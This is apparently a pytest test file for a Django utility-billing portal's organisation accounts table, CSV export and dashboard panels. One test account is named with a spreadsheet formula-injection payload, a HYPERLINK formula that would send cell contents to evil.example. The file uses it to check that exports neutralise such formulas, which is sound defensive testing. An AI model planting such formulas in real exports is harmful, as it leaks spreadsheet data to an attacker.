"""The organisation accounts table, its CSV export, and the organisation home's panels.

group ─┬─ sub1 ─┬─ acc1 (prepaid: 600.00, 15.0 days, 9 kWh this month, 1 open alert)
       │        └─ post (postpaid: 2 m³ of water this month)
       └─ sub2 ─┬─ acc2 (prepaid: 50.00, 2.5 days: low)
                └─ evil (prepaid, named "=HYPERLINK(...)", empty wallet: low)
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import itertools
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from decimal import Decimal

import pytest
import time_machine
from django.db import connection
from django.http import StreamingHttpResponse
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from billing.models import DailyCharge
from billing.selectors import credit_state
from billing.services.ledger import wallet_adjust
from meters.models import Meter, MeterEvent, MeterInstallation, RollupDaily, ServicePoint
from meters.services.supply import supply_start
from portal.audit.events import AuditEvent
from portal.audit.models import AuditLogEntry
from portal.lib.csvsafe import csv_safe
from portal.tenancy.models import Account, Organisation
from portal.tenancy.roles import Role
from portal.users.models import User
from tests.billing.helpers import charge_history, supplied
from tests.conftest import World
from tests.factories import SYSTEM, make_account, make_membership, make_organisation, make_user
from web.selectors import organisation_accounts_table

pytestmark = pytest.mark.django_db
NOW = dt.datetime(2026, 5, 20, 4, 0, tzinfo=dt.UTC)  # noon in Taipei
TODAY = dt.date(2026, 5, 20)
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ClientFor = Callable[[User], Client]
_n = itertools.count(1)


@pytest.fixture(autouse=True)
def _at_noon_in_taipei() -> Iterator[None]:
    # Every request of a test at the same moment: sessions do not expire between them.
    with time_machine.travel(NOW, tick=False):
        yield


def _prepaid(
    account: Account, *, balance: int, daily: int | None, kind: str = "electricity"
) -> ServicePoint:
    account, sp, wallet = supplied(account, kind=kind)
    if balance:
        wallet_adjust(
            wallet=wallet,
            amount=balance,
            reason="opening",
            idempotency_key=f"open-{account.pk}",
            actor=SYSTEM,
            as_of=NOW,
        )
    if daily is not None:
        charge_history(account, sp, daily=daily, today=TODAY, as_of=NOW, consumption=1000)
    return sp


def _postpaid_supply(account: Account, *, kind: str = "water") -> ServicePoint:
    n = next(_n)
    sp = ServicePoint.objects.create(code=f"PSP{n}", kind=kind, time_zone=account.time_zone)
    meter = Meter.objects.create(serial=f"PM{n}", kind=kind, max_rate=50_000)
    since = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
    MeterInstallation.objects.create(meter=meter, service_point=sp, installed_at=since)
    supply_start(account=account, service_point=sp, start=since, actor=SYSTEM)
    return sp


def _rollup(account: Account, sp: ServicePoint, day: dt.date, wh: int) -> None:
    RollupDaily.objects.create(
        service_point=sp, direction="import", day=day, account=account, consumption=wh, hours=24
    )


@dataclass
class Table:
    world: World
    acc1: Account
    acc2: Account
    post: Account
    evil: Account


@pytest.fixture
def table(world: World) -> Table:
    acc1, acc2 = world.acc1, world.acc2
    sp1 = _prepaid(acc1, balance=600_00, daily=40_00)
    _rollup(acc1, sp1, dt.date(2026, 5, 3), 9000)
    _rollup(acc1, sp1, dt.date(2026, 4, 30), 5000)  # last month: not counted
    meter = Meter.objects.get(installations__service_point=sp1)
    Meter.objects.filter(pk=meter.pk).update(last_contact_at=NOW - dt.timedelta(hours=1))
    MeterEvent.objects.create(
        meter=meter, service_point=sp1, account=acc1, kind="leak", severity=30, occurred_at=NOW
    )
    MeterEvent.objects.create(
        meter=meter,
        service_point=sp1,
        account=acc1,
        kind="tamper_cover",
        severity=30,
        occurred_at=NOW - dt.timedelta(days=1),
        acknowledged_at=NOW,
    )
    _prepaid(acc2, balance=50_00, daily=20_00)
    post = make_account("Postpaid Co", organisation=world.sub1, payment_mode="postpaid")
    _rollup(post, _postpaid_supply(post), dt.date(2026, 5, 10), 2000)
    evil = make_account(EVIL, organisation=world.sub2)
    _prepaid(evil, balance=0, daily=None)
    return Table(world=world, acc1=acc1, acc2=acc2, post=post, evil=evil)


def _body(response: object) -> str:
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content).decode()  # type: ignore[arg-type]


def _get(client: Client, org: Organisation, query: str = "") -> list[str]:
    url = reverse("web:organisation_accounts", args=[org.public_id])
    with time_machine.travel(NOW, tick=False):
        response = client.get(f"{url}?{query}")
    assert response.status_code == 200, response.content.decode()[:500]
    return [row.number for row in response.context["page"].object_list]


def test_the_table_shows_every_account_of_the_subtree_with_its_measures(
    table: Table, client_for: ClientFor
) -> None:
    client = client_for(table.world.group_manager)
    url = reverse("web:organisation_accounts", args=[table.world.group.public_id])
    with time_machine.travel(NOW, tick=False):
        response = client.get(url)
    assert response.status_code == 200
    rows = {row.number: row for row in response.context["page"].object_list}
    assert set(rows) == {a.number for a in (table.acc1, table.acc2, table.post, table.evil)}

    one = rows[table.acc1.number]
    assert one.organisation_name == "Sub 1" and one.payment_mode == "prepaid"
    assert one.balance == 600_00 and one.balance_amount == Decimal("600.00")
    assert one.days_left == Decimal("15.0") and not one.low  # 600 / 40 a day
    assert one.consumption == {"electricity": 9000}
    assert one.usage[0] == Decimal(9)
    assert one.last_contact == NOW - dt.timedelta(hours=1)
    assert one.open_alerts == 1  # the acknowledged one does not count

    two = rows[table.acc2.number]
    assert two.days_left == Decimal("2.5") and two.low
    post = rows[table.post.number]
    assert post.balance is None and post.days_left is None and not post.low
    assert post.consumption == {"water": 2000} and post.last_contact is None
    evil = rows[table.evil.number]
    assert evil.balance == 0 and evil.days_left is None and evil.low

    page = response.content.decode()
    assert "<h1" in page and "Group</h1>" in page
    assert 'for="id_q">Search</label>' in page
    assert "Export CSV" in page
    assert f'href="/a/{table.acc1.public_id}/">{table.acc1.number}</a>' in page
    assert "600.00 TWD" in page
    # Consumption columns for the utilities supplied in the subtree only.
    assert "Water this month (m³)" in page and "Gas this month" not in page


def test_the_days_left_are_those_of_the_account_home(table: Table) -> None:
    # One formula: the set-based SQL gives what credit_state (the account's panel) says.
    rows = organisation_accounts_table(
        organisation=table.world.group, as_of=NOW, credit_alerts=True
    )
    for row in rows:
        account = Account.objects.get(public_id=row.public_id)
        state = credit_state(account_id=account.pk, as_of_day=TODAY)
        if account.payment_mode == "postpaid":
            continue
        assert state is not None
        assert (row.balance, row.days_left, row.average_daily_cost) == (
            state.balance,
            state.days_left,
            state.average_daily_cost,
        )


def test_charges_smaller_than_their_days_leave_days_left_unknown_not_a_crash(
    table: Table, client_for: ClientFor
) -> None:
    # 5 cents over 14 days: the whole-unit average floors to 0, which must not be divided by.
    DailyCharge.objects.filter(account=table.acc2).update(net=0, tax=0, total=0)
    DailyCharge.objects.filter(account=table.acc2, day=TODAY - dt.timedelta(days=1)).update(
        net=5, total=5
    )
    state = credit_state(account_id=table.acc2.pk, as_of_day=TODAY)
    assert state is not None and state.average_daily_cost == 0 and state.days_left is None
    rows = {
        r.number: r
        for r in organisation_accounts_table(
            organisation=table.world.group, as_of=NOW, credit_alerts=True
        )
    }
    assert rows[table.acc2.number].days_left is None
    client = client_for(table.world.group_manager)
    assert _get(client, table.world.group, "sort=days_left")
    home = client.get(reverse("tenancy:organisation_home", args=[table.world.group.public_id]))
    assert home.status_code == 200


def test_an_absurd_page_number_shows_the_last_page(table: Table, client_for: ClientFor) -> None:
    client = client_for(table.world.group_manager)
    assert len(_get(client, table.world.group, "page=99999999999999999999")) == 4


@pytest.mark.parametrize(
    ("sort", "expected"),
    [
        ("balance", ["evil", "acc2", "acc1", "post"]),  # no wallet: last either way
        ("-balance", ["acc1", "acc2", "evil", "post"]),
        ("days_left", ["evil", "acc2", "acc1", "post"]),  # an empty wallet counts as 0 days
        ("-days_left", ["acc1", "acc2", "evil", "post"]),
        ("-alerts", ["acc1"]),
        ("electricity", ["acc1"]),
        ("-water", ["post"]),
        ("-name", ["post"]),
        ("-subsidiary", ["acc2", "evil"]),
    ],
)
def test_it_sorts_by_any_column(
    table: Table, client_for: ClientFor, sort: str, expected: list[str]
) -> None:
    numbers = {name: getattr(table, name).number for name in ("acc1", "acc2", "post", "evil")}
    got = _get(client_for(table.world.group_manager), table.world.group, f"sort={sort}")
    assert got[: len(expected)] == [numbers[name] for name in expected]


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("q=postpaid+co", {"post"}),
        ("q=hyperlink", {"evil"}),
        ("mode=postpaid", {"post"}),
        ("mode=prepaid", {"acc1", "acc2", "evil"}),
        ("low=1", {"acc2", "evil"}),
        ("alerts=1", {"acc1"}),
        ("low=1&mode=postpaid", set()),
    ],
)
def test_each_filter_narrows_the_table(
    table: Table, client_for: ClientFor, query: str, expected: set[str]
) -> None:
    numbers = {getattr(table, name).number: name for name in ("acc1", "acc2", "post", "evil")}
    got = _get(client_for(table.world.group_manager), table.world.group, query)
    assert {numbers[number] for number in got} == expected


def test_it_filters_by_subsidiary_and_by_account_number(
    table: Table, client_for: ClientFor
) -> None:
    client = client_for(table.world.group_manager)
    got = _get(client, table.world.group, f"subsidiary={table.world.sub2.public_id}")
    assert set(got) == {table.acc2.number, table.evil.number}
    got = _get(client, table.world.group, f"q={table.acc1.number[-5:].lower()}")
    assert table.acc1.number in got


def test_unknown_filters_are_refused_with_a_message(table: Table, client_for: ClientFor) -> None:
    client = client_for(table.world.group_manager)
    url = reverse("web:organisation_accounts", args=[table.world.group.public_id])
    response = client.get(f"{url}?sort=password")
    assert response.status_code == 400
    assert "These filters cannot be used" in response.content.decode()
    csv_url = reverse("web:organisation_accounts_csv", args=[table.world.group.public_id])
    response = client.get(f"{csv_url}?mode=free")
    assert response.status_code == 400 and b"mode" in response.content


def test_a_subsidiary_manager_sees_only_its_own_accounts(
    table: Table, client_for: ClientFor
) -> None:
    client = client_for(table.world.sub1_manager)
    got = _get(client, table.world.sub1)
    assert set(got) == {table.acc1.number, table.post.number}
    # Not the sibling's, by URL or by filter.
    for name in ("web:organisation_accounts", "web:organisation_accounts_csv"):
        assert client.get(reverse(name, args=[table.world.sub2.public_id])).status_code == 404
        assert client.get(reverse(name, args=[table.world.group.public_id])).status_code == 404
    url = reverse("web:organisation_accounts", args=[table.world.sub1.public_id])
    response = client.get(f"{url}?subsidiary={table.world.sub2.public_id}")
    assert response.status_code == 400
    assert table.acc2.number not in response.content.decode()
    csv_url = reverse("web:organisation_accounts_csv", args=[table.world.sub1.public_id])
    body = _body(client.get(csv_url))
    assert table.acc1.number in body and table.acc2.number not in body
    assert table.evil.number not in body


def test_the_csv_has_the_tables_rows_filters_and_sort_with_formulas_neutralised(
    table: Table, client_for: ClientFor
) -> None:
    client = client_for(table.world.group_manager)
    url = reverse("web:organisation_accounts_csv", args=[table.world.group.public_id])
    with time_machine.travel(NOW, tick=False):
        response = client.get(f"{url}?mode=prepaid&sort=-balance")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="accounts-20260520.csv"'
    rows = list(csv.reader(io.StringIO(_body(response))))
    assert rows[0][:7] == [
        "account_number",
        "name",
        "subsidiary",
        "payment_mode",
        "balance",
        "currency",
        "days_left",
    ]
    assert [r[0] for r in rows[1:]] == [table.acc1.number, table.acc2.number, table.evil.number]
    one = dict(zip(rows[0], rows[1], strict=True))
    assert one["balance"] == "600.00" and one["currency"] == "TWD"
    assert one["days_left"] == "15.0" and one["electricity_kwh"] == "9"
    assert one["last_contact_utc"] == "2026-05-20T03:00:00+00:00" and one["open_alerts"] == "1"
    evil = dict(zip(rows[0], rows[3], strict=True))
    assert evil["name"] == "'" + EVIL
    # One audit entry for the download, with the filters it was asked with.
    entry = AuditLogEntry.objects.filter(event_type=AuditEvent.CSV_EXPORTED).get()
    assert entry.organisation_id == table.world.group.pk
    assert entry.actor_id == table.world.group_manager.pk
    assert entry.data == {"export": "organisation_accounts", "query": "mode=prepaid&sort=-balance"}
    assert entry.display == "exported the accounts table as CSV"


def test_a_viewer_sees_the_table_but_may_not_export_it(table: Table, client_for: ClientFor) -> None:
    viewer = make_user()
    make_membership(viewer, Role.VIEWER, organisation=table.world.group)
    client = client_for(viewer)
    url = reverse("web:organisation_accounts", args=[table.world.group.public_id])
    response = client.get(url)
    assert response.status_code == 200 and "Export CSV" not in response.content.decode()
    csv_url = reverse("web:organisation_accounts_csv", args=[table.world.group.public_id])
    assert client.get(csv_url).status_code == 403


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+31 20 555", "'+31 20 555"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"),  # full-width equals sign
        ("\uff20x", "'\uff20x"),
        ("plain", "plain"),
        (Decimal("-12.50"), "-12.50"),  # a number the portal computed is no formula
        (-3, "-3"),
        (None, ""),
    ],
)
def test_csv_cells_that_would_run_as_formulas_are_quoted(value: object, expected: str) -> None:
    assert csv_safe(value) == expected


def _populate(group: Organisation, count: int) -> None:
    subs = [make_organisation(f"Part {i}", parent=group) for i in range(3)]
    for i in range(count):
        account = make_account(f"Customer {i}", organisation=subs[i % 3])
        sp = _prepaid(account, balance=(i + 1) * 100, daily=50)
        _rollup(account, sp, dt.date(2026, 5, 2), 1000 + i)
        meter = Meter.objects.get(installations__service_point=sp)
        MeterEvent.objects.create(
            meter=meter,
            service_point=sp,
            account=account,
            kind="leak",
            severity=30,
            occurred_at=NOW,
        )


@pytest.mark.parametrize("sort", ["number", "-days_left"])
def test_a_page_costs_the_same_queries_for_5_or_60_accounts(
    world: World, client_for: ClientFor, sort: str
) -> None:
    counts = []
    for size in (5, 60):
        group = make_organisation(f"Big {size}")
        _populate(group, size)
        manager = make_user()
        make_membership(manager, Role.MANAGER, organisation=group)
        client = client_for(manager)
        url = reverse("web:organisation_accounts", args=[group.public_id])
        client.get(url)  # warm the session and caches
        with time_machine.travel(NOW, tick=False), CaptureQueriesContext(connection) as queries:
            response = client.get(f"{url}?sort={sort}&low=&page=1")
        assert response.status_code == 200
        assert len(response.context["page"].object_list) == min(size, 50)
        counts.append(len(queries))
    assert counts[0] == counts[1]
    assert counts[0] <= 12


def test_the_organisation_home_lists_low_balances_worst_first_and_the_whole_tree(
    table: Table, client_for: ClientFor
) -> None:
    deep = make_organisation("Sub 1a", parent=table.world.sub1)
    make_account("Deep account", organisation=deep)
    client = client_for(table.world.group_manager)
    url = reverse("tenancy:organisation_home", args=[table.world.group.public_id])
    with time_machine.travel(NOW, tick=False):
        response = client.get(url)
    assert response.status_code == 200
    panels = {p.template.rsplit("/", 1)[-1]: p for p in response.context["panels"]}
    low = panels["organisation_low_balance.html"]
    assert [row.number for row in low.context["rows"]] == [table.evil.number, table.acc2.number]
    assert low.context["all_url"].endswith("?low=1&sort=days_left")
    tree = panels["organisation_tree.html"].context["root"]
    assert tree.total_accounts == 5
    sub1 = next(child for child in tree.children if child.organisation == table.world.sub1)
    assert [c.organisation.name for c in sub1.children] == ["Sub 1a"]
    assert sub1.own_accounts == 2 and sub1.total_accounts == 3
    page = response.content.decode()
    assert "Sub 1a" in page and 'href="/o/' in page
    assert reverse("web:organisation_accounts", args=[table.world.group.public_id]) in page
    # A subsidiary's manager sees its own part of the tree and list only.
    body = (
        client_for(table.world.sub1_manager)
        .get(reverse("tenancy:organisation_home", args=[table.world.sub1.public_id]))
        .content.decode()
    )
    assert "Sub 1a" in body and table.acc2.number not in body and "Sub 2" not in body


def test_the_roll_up_charts_read_rollups_not_readings(table: Table, client_for: ClientFor) -> None:
    sp = ServicePoint.objects.get(supplies__account=table.acc1)
    _rollup(table.acc1, sp, dt.date(2025, 7, 1), 7000)  # within 12 months
    _rollup(table.acc1, sp, dt.date(2025, 4, 1), 7000)  # older: left out
    client = client_for(table.world.group_manager)
    url = reverse("tenancy:organisation_home", args=[table.world.group.public_id])
    with time_machine.travel(NOW, tick=False), CaptureQueriesContext(connection) as queries:
        response = client.get(url)
    assert not any("meters_reading" in q["sql"] for q in queries.captured_queries)
    sql = [q["sql"] for q in queries.captured_queries]
    # Each chart is one grouped query over the daily rollups.
    assert sum("date_trunc('day', day" in q and "meters_rollupdaily" in q for q in sql) == 1
    assert sum("date_trunc('month', day" in q and "meters_rollupdaily" in q for q in sql) == 1
    panel = next(p for p in response.context["panels"] if p.charts)
    charts = {c.kind: c for c in panel.context["charts"]}
    assert set(charts) == {"electricity", "water"}
    daily = charts["electricity"].daily
    assert daily.rows[-1].imported == Decimal(9)  # 2026-05-03 is the last day with data
    assert not daily.exports and daily.rows[-1].exported is None  # nothing here exports
    monthly = charts["electricity"].monthly
    # July 2025 to May 2026, the months between at zero (April 2026 had 5 kWh).
    assert [r.imported for r in monthly.rows] == [7, 0, 0, 0, 0, 0, 0, 0, 0, 5, 9]
    page = response.content.decode()
    assert 'data-plotly-figure="org-usage-daily-electricity"' in page
    assert '<script id="org-usage-daily-electricity" type="application/json">' in page
    assert "<details>" in page and "plotly-cartesian.min.js" in page
